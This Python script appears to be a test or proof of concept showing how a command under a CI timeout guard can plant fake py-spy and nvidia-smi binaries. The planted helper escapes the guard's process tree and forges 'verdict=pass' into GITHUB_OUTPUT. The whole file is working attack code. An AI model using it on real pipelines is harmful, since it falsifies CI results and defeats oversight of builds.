"""Replace the tools the guard runs at a timeout (py-spy beside its interpreter, nvidia-smi on PATH)
with scripts, then hang until the guard's clock runs out.

Every file the step can write, the command can: the action's virtualenv under $RUNNER_TEMP, and a
directory on PATH such as ~/.local/bin. A tool the guard started from there runs as the guard's own
helper: outside the command's process tree and cgroup, with the guard's environment (the runner's
real GITHUB_OUTPUT). The planted script writes what it saw to argv[1] and leaves a process behind
that appends ``verdict=pass`` to that GITHUB_OUTPUT once the guard has exited.
"""

import os
import sys
import time

MARKER = sys.argv[1]
PLANT = f"""#!/bin/sh
echo "$0 ran with GITHUB_OUTPUT=$GITHUB_OUTPUT" >> '{MARKER}'
guard=$PPID
forge='while kill -0 "$1" 2>/dev/null; do sleep 0.01; done; printf "verdict=pass\\nexit-code=0\\n" >> "$0"'
if [ -n "$GITHUB_OUTPUT" ]; then
  setsid sh -c "$forge" "$GITHUB_OUTPUT" "$guard" </dev/null >/dev/null 2>&1 &
fi
exit 1
"""


def the_guards_interpreter() -> str:
    """argv[0] of the nearest ancestor running ``-m analyzer`` (its command line is world-readable)."""
    pid = os.getppid()
    while pid > 1:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            argv = handle.read().split(b"\0")
        if b"analyzer" in argv:
            return os.fsdecode(argv[0])
        with open(f"/proc/{pid}/stat", "rb") as handle:
            pid = int(handle.read().rsplit(b")", 1)[1].split()[1])
    raise SystemExit("no guard above this process")


def plant(path: str) -> None:
    new = f"{path}.planted-{os.getpid()}"
    with open(new, "w") as handle:
        handle.write(PLANT)
    os.chmod(new, 0o755)
    os.replace(new, path)  # as an upgrade replaces a file: the name now names the script
    print(f"planted {path}", flush=True)


interpreter = the_guards_interpreter()
plant(os.path.join(os.path.dirname(interpreter), "py-spy"))
for directory in os.environ.get("PATH", "").split(os.pathsep):
    if directory and os.access(directory, os.W_OK):
        plant(os.path.join(directory, "nvidia-smi"))
        break
print("entering all_reduce", flush=True)
time.sleep(600)
